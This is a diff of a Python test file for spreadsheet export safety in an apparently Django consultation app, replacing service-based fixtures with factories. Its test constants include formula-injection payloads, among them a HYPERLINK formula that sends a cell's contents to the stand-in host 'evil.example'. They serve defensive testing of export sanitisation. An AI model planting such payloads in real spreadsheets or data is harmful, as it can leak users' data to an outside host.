@@ -3,19 +3,17 @@ and text already stored with characters a spreadsheet refuses never makes an exp
 
 import csv
 import io
-from datetime import date, timedelta
 from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
 
-from assay.consultation import services
-from assay.consultation.models import Comment, Consent, Response
+from assay.consultation.models import Comment, Response
 from assay.lib import exports
 from assay.registry.models import Actor
+from tests.factories import ResponseFactory, RoundFactory
 
 pytestmark = pytest.mark.django_db
-TODAY = date.today()
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 DANGEROUS = [HYPERLINK, "+1+2", "-2+3 cmd", "@SUM(A1:A2)", "\t=1", "\r=1"]
 
@@ -69,17 +67,11 @@ def test_characters_a_spreadsheet_refuses_are_dropped_not_a_crash():
 
 @pytest.fixture
 def round_(demo):
-    return services.round_create(None, demo[1], title="Round", announced_on=TODAY - timedelta(20),
-                                 opens_on=TODAY - timedelta(10), closes_on=TODAY + timedelta(60))
+    return RoundFactory(version=demo[1])
 
 
 def _published(round_, name: str, text: str, key: str) -> Response:
-    r = services.response_start(round_, name=name, email=f"{key}@example.org", sector="asm", country="CD",
-                                language="fr", consent=Consent.NAMED)
-    services.response_save(r, {}, {}, text)
-    services.response_submit(r, key)
-    services.response_verify_email(r)
-    return r
+    return ResponseFactory(round=round_, name=name, email=f"{key}@example.org", general=text, key=key)
 
 
 def test_a_respondent_named_as_a_formula_is_text_in_the_synopsis(client, round_):
